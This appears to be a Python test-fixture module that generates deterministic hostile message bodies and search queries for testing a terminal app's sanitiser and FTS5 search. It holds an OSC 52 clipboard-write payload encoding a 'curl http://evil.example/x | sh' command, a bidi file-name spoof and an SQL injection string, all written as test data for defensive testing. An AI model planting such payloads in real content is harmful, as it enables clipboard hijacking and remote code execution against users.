"""Hostile content and hostile search queries, deterministic, for tests and the long script.

Nothing here imports pytest or textual; ``hypothesis`` is imported only by the ``*_strategy``
functions. ``bench/reliability.py`` imports this module to replay the same inputs at a larger
scale::

    from tests.reliability.hostile import hostile_queries, hostile_contents, HOSTILE_TEXTS

* :data:`HOSTILE_TEXTS` — named strings that try to drive a terminal or a markup parser:
  Rich/Textual markup (``[bold]``, ``[/]``, ``[@click=app.quit]``), ANSI CSI and OSC
  sequences (window title, hyperlinks, OSC 52 clipboard writes), C1 controls, bidi
  overrides and isolates, zero-width characters, NUL, BEL, backspace and carriage-return
  overwrites.
* :func:`hostile_contents(seed, n)` — ``n`` message bodies mixing those with ordinary text.
* :func:`hostile_queries(seed, n)` — ``n`` search queries: FTS5 operators and syntax errors,
  unbalanced quotes, column filters, ``NEAR``, ``^``, prefixes, control characters, lone
  surrogates, huge strings, and samples of every CJK / Hangul / kana block (the ones SR-8
  treats as CJK and their neighbours that it does not).
* :func:`query_strategy` / :func:`content_strategy` — hypothesis strategies over the same
  alphabet.

Every generator is a pure function of its seed: the same seed gives the same list on every
machine and Python version (only :class:`random.Random` with an explicit seed is used).
"""

from __future__ import annotations

import base64
import random
from typing import Iterator

# ---------------------------------------------------------------------------- content

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"

#: OSC 52: "set the clipboard to this base64 payload" — a terminal that honours it lets text
#: that is merely *displayed* overwrite what the user pastes next.
OSC52_PAYLOAD = base64.b64encode(b"curl http://evil.example/x | sh\n").decode()
OSC52 = f"{ESC}]52;c;{OSC52_PAYLOAD}{BEL}"

HOSTILE_TEXTS: dict[str, str] = {
    "markup_bold": "[bold]not bold[/bold] and [/] stray close and [red on white]colour[/]",
    "markup_click": "click me: [@click=app.quit]quit[/] or [@click=app.bell]bell[/] [link=https://evil.example]link[/link]",
    "markup_escape": r"escaped \[bold] and \\[italic]double[/italic] and [b]unclosed",
    "markup_textual_vars": "$accent $primary {self.app} %(name)s {0} ${HOME}",
    "ansi_sgr": f"{ESC}[31mred{ESC}[0m {ESC}[1;5;7mblink-reverse{ESC}[m {ESC}[38;2;255;0;0mtruecolor",
    "ansi_cursor": f"before{ESC}[2J{ESC}[H{ESC}[10;10Hmoved{ESC}[?25l hidden cursor {ESC}[?1049h alt screen",
    "osc_title": f"{ESC}]0;pwned window title{BEL} and {ESC}]2;another{ST}",
    "osc_hyperlink": f"{ESC}]8;;https://evil.example{ST}innocent link{ESC}]8;;{ST}",
    "osc52_clipboard": f"copy this: {OSC52} done",
    "osc52_st": f"{ESC}]52;p;{OSC52_PAYLOAD}{ST}",
    "dcs_sixel": f"{ESC}P0;0;0q#0;2;0;0;0~~{ST} after dcs",
    "c1_controls": "c1 csi \x9b31m red? \x9d0;title\x9c osc? \x85 nel \x90 dcs",
    "bidi_override": "evil\u202egnp.exe\u202c and \u202dforce ltr\u202c and \u2066isolate\u2069 \u200f rlm",
    "zero_width": "zero\u200bwidth\u200c\u200djoiner\ufeffbom \u2060wj \u00adshy",
    "nul_and_friends": "nul\x00byte bel\x07 backspace\x08\x08XX del\x7f vt\x0b ff\x0c",
    "carriage_return": "visible text\rOVERWRITTEN",
    "tabs_newlines": "col1\tcol2\tcol3\nsecond line\r\nthird line",
    "combining": "Z\u0351\u0352\u0353a\u0354\u0355l\u0356\u0357g\u0358o e\u0301\u0301\u0301\u0301",
    "emoji_zwj": "family 👨\u200d👩\u200d👧\u200d👦 flag 🇯🇵 skin 👍🏽 keycap 1\ufe0f\u20e3",
    "rtl_text": "مرحبا بالعالم שלום עולם",
    "cjk": "今天桂林的天气怎么样 서버 배포 こんにちは カタカナ 𠀀𠀁",
    "fullwidth": "ＡＢＣ１２３，。「」",
    "long_word": "x" * 3000,
    "surrogate_escape_like": "\\ud800 \\x1b[31m \\u202e (escaped, harmless text)",
    "sql_like": "'; DROP TABLE sessions; -- \" OR 1=1 %_ \\",
}

#: Code points that must never reach a terminal from content.
FORBIDDEN_IN_OUTPUT = (
    ESC, "\x9b", "\x9d", "\x90", "\x9c", "\x07", "\x00", "\x08", "\x7f",
    "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069",
)

#: Titles (TI-1 strips ASCII controls and zero-width characters from titles; what survives
#: sanitising is still hostile: markup, bidi overrides, C1 controls).
HOSTILE_TITLES: list[str] = [
    "[bold]bold title[/] [@click=app.quit]quit[/]",
    "title \u202eexe.txt\u202c",
    f"osc52 {OSC52} title",
    "c1 \x9b31m title",
    "[/]",
    "\\[escaped] [link=x]y[/link]",
]


def hostile_contents(seed: int = 0, n: int = 50) -> list[str]:
    """``n`` message bodies: each hostile text alone, then random mixes with plain words."""
    rng = random.Random(seed)
    names = sorted(HOSTILE_TEXTS)
    out = [HOSTILE_TEXTS[name] for name in names]
    words = ["deploy", "docker", "the", "error", "服务", "서버", "テスト", "fix", "build"]
    while len(out) < n:
        parts = []
        for _ in range(rng.randint(2, 6)):
            if rng.random() < 0.5:
                parts.append(HOSTILE_TEXTS[rng.choice(names)][: rng.randint(1, 200)])
            else:
                parts.append(rng.choice(words))
        out.append(rng.choice([" ", "\n", "", "\t"]).join(parts))
    return out[:n]


# ---------------------------------------------------------------------------- queries

#: (name, first, last, counted as CJK by SR-8)
CJK_RANGES: list[tuple[str, int, int, bool]] = [
    ("CJK Unified Ideographs", 0x4E00, 0x9FFF, True),
    ("CJK Extension A", 0x3400, 0x4DBF, True),
    ("CJK Extension B", 0x20000, 0x2A6DF, True),
    ("CJK Symbols and Punctuation", 0x3000, 0x303F, True),
    ("Hiragana", 0x3040, 0x309F, True),
    ("Katakana", 0x30A0, 0x30FF, True),
    ("Hangul Syllables", 0xAC00, 0xD7AF, True),
    # Neighbours SR-8 does not count as CJK: they must not break routing either.
    ("Hangul Jamo", 0x1100, 0x11FF, False),
    ("Hangul Compatibility Jamo", 0x3130, 0x318F, False),
    ("Hangul Jamo Extended-A", 0xA960, 0xA97F, False),
    ("Hangul Jamo Extended-B", 0xD7B0, 0xD7FF, False),
    ("Katakana Phonetic Extensions", 0x31F0, 0x31FF, False),
    ("Kana Supplement", 0x1B000, 0x1B0FF, False),
    ("Small Kana Extension", 0x1B130, 0x1B16F, False),
    ("Halfwidth and Fullwidth Forms", 0xFF00, 0xFFEF, False),
    ("CJK Compatibility Ideographs", 0xF900, 0xFAFF, False),
    ("CJK Compatibility Ideographs Supplement", 0x2F800, 0x2FA1F, False),
    ("CJK Extension C", 0x2A700, 0x2B73F, False),
    ("CJK Extension G", 0x30000, 0x3134F, False),
    ("CJK Radicals Supplement", 0x2E80, 0x2EFF, False),
    ("Kangxi Radicals", 0x2F00, 0x2FDF, False),
    ("Bopomofo", 0x3100, 0x312F, False),
    ("Enclosed CJK Letters and Months", 0x3200, 0x32FF, False),
    ("CJK Compatibility", 0x3300, 0x33FF, False),
]

#: Pieces of FTS5 syntax and things the sanitiser and routing must survive.
FTS_PIECES: list[str] = [
    "AND", "OR", "NOT", "NEAR", "NEAR(", "NEAR(a b, 5)", "NEAR(docker deploy,", "and", "or",
    "not", '"', '""', '"""', "'", "*", "**", "^", "^docker", "docker*", "*docker", "+", "-",
    "(", ")", "((", "))", "{", "}", "{content}", "{content tool_name}:", ":", "content:",
    "tool_name:", "session_id:", "-content:", "content:docker", "{role}:user", ".", "@", "%",
    "_", "\\", ",", ";", "|", "&", "!", "?", "~", "`", "$", "#", "=", "<", ">", "[", "]",
    "\x00", "\x1a", "\x1b[31m", "\u202e", "\u200b", "\ufeff", "\u3000", "\ud800", "\udfff",
    "🙂", "👨\u200d👩\u200d👧", "记忆", "断裂", "广西", "桂林", "서버", "배포", "こんにちは",
    "テスト", "docker", "deploy", "the", "a", "error", "ﬁ", "İ", "e\u0301", "\n", "\t", " ",
    "-rf", "--force", ".env", "TODO:", "user@example.com", "100%", "C++", "c#", "a.b.c",
]

QUERY_TEMPLATES: list[str] = [
    '"unbalanced', 'unbalanced"', '"a" "b', "a AND", "OR b", "NOT", "AND OR NOT", "a NOT",
    "NEAR(docker deploy)", "NEAR(docker deploy, 0)", "NEAR(docker deploy, -1)",
    "NEAR(docker, 99999999999999999999)", "NEAR docker", "docker NEAR/3 deploy",
    "^docker", "^^docker", "docker ^deploy", "content:docker", "nonexistent:docker",
    "{content}:docker", "{nope}:x", "- docker", "-docker", "docker -error",
    "(docker OR deploy) AND NOT error", "((((((((docker", "docker))))))))",
    "docker* deploy*", "d*", "*", "**", "* * *", '""', '" "', "'", "''", "\\", "\\\"",
    "%", "%%", "_", "a%b_c", "[", "]", "[bold]", "[/]", "[@click=app.quit]",
    "\x00", "a\x00b", "\x1b[31mred", "\u202eevil", "\u200b", "\ufeff", "\ud800", "a\udfffb",
    "🙂", "🙂🙂🙂", "记", "记忆", "记忆断裂", "修改youer服务端", "서", "서버", "서버 배포",
    "こ", "こんにちは", "ア", "テスト", "广西 OR 桂林", "广西 AND NOT 桂林", '"桂林 天气"',
    "記憶*", "서버*", "NEAR(记忆 断裂)", "content:记忆", "^记忆",
]


def _sample_range(rng: random.Random, first: int, last: int, k: int) -> str:
    chars = []
    for _ in range(k):
        cp = rng.randint(first, last)
        if 0xD800 <= cp <= 0xDFFF:
            cp = first
        chars.append(chr(cp))
    return "".join(chars)


def cjk_range_queries(seed: int = 0) -> list[str]:
    """For every block of :data:`CJK_RANGES`: its first and last code point, 1-, 2-, 3- and
    8-character samples, two words, and a mix with Latin text."""
    rng = random.Random(seed)
    out: list[str] = []
    for _name, first, last, _cjk in CJK_RANGES:
        out.append(chr(first))
        out.append(chr(last))
        for k in (1, 2, 3, 8):
            out.append(_sample_range(rng, first, last, k))
        out.append(_sample_range(rng, first, last, 2) + " " + _sample_range(rng, first, last, 3))
        out.append("docker" + _sample_range(rng, first, last, 3) + "deploy")
        out.append(_sample_range(rng, first, last, 2) + "*")
    return out


def huge_queries(seed: int = 0) -> list[str]:
    """Very long queries: 10k-character words, thousands of operators and terms."""
    rng = random.Random(seed)
    return [
        "a" * 10_000,
        "记" * 5_000,
        "서버 " * 2_000,
        " ".join(rng.choice(FTS_PIECES) for _ in range(2_000))[:20_000],
        " OR ".join(f"term{i}" for i in range(1_000)),
        " AND ".join("docker" for _ in range(500)),
        "(" * 1_000 + "docker" + ")" * 1_000,
        '"' * 999,
        "NEAR(" + " ".join(f"w{i}" for i in range(500)) + ")",
        "*" * 5_000,
        "\x00" * 1_000,
        "🙂" * 3_000,
    ]


def hostile_queries(seed: int = 0, n: int = 400) -> list[str]:
    """``n`` queries: the fixed templates, every CJK range, huge strings, then random mixes.

    The fixed parts come first so that a small ``n`` still covers the categories; the rest
    joins random :data:`FTS_PIECES` (and CJK samples) with spaces or with nothing.
    """
    rng = random.Random(seed)
    fixed = QUERY_TEMPLATES + cjk_range_queries(seed) + huge_queries(seed)
    out = list(fixed)
    while len(out) < n:
        k = rng.randint(1, 8)
        parts: list[str] = []
        for _ in range(k):
            roll = rng.random()
            if roll < 0.15:
                _name, first, last, _cjk = rng.choice(CJK_RANGES)
                parts.append(_sample_range(rng, first, last, rng.randint(1, 4)))
            elif roll < 0.2:
                parts.append(rng.choice(list(HOSTILE_TEXTS.values()))[: rng.randint(1, 30)])
            else:
                parts.append(rng.choice(FTS_PIECES))
        out.append(rng.choice([" ", "", " ", "\u3000"]).join(parts))
    if n < len(fixed):
        # Keep a spread of every category rather than just the first templates.
        step = len(fixed) / n
        return [fixed[int(i * step)] for i in range(n)]
    return out[:n]


def iter_hostile_queries(seed: int = 0) -> Iterator[str]:
    """An endless deterministic stream (the long script draws as many as its budget allows)."""
    batch = 0
    while True:
        yield from hostile_queries(seed + batch, 400)
        batch += 1


# ---------------------------------------------------------------------------- hypothesis


def query_strategy(max_size: int = 80):
    """Hypothesis strategy of hostile queries over :data:`FTS_PIECES`, CJK blocks and text."""
    from hypothesis import strategies as st

    cjk_char = st.sampled_from(CJK_RANGES).flatmap(
        lambda r: st.integers(r[1], r[2]).filter(lambda cp: not 0xD800 <= cp <= 0xDFFF).map(chr)
    )
    piece = st.one_of(
        st.sampled_from(FTS_PIECES),
        st.text(cjk_char, min_size=1, max_size=4),
        st.text(max_size=6),
    )
    return st.one_of(
        st.sampled_from(QUERY_TEMPLATES),
        st.text(max_size=max_size),
        st.lists(piece, max_size=10).map(" ".join),
        st.lists(piece, max_size=10).map("".join),
        st.text(cjk_char, min_size=1, max_size=12),
    )


def content_strategy():
    """Hypothesis strategy of message bodies built from :data:`HOSTILE_TEXTS` and text."""
    from hypothesis import strategies as st

    return st.lists(
        st.one_of(st.sampled_from(sorted(HOSTILE_TEXTS.values())), st.text(max_size=20)),
        min_size=1,
        max_size=5,
    ).map("".join)
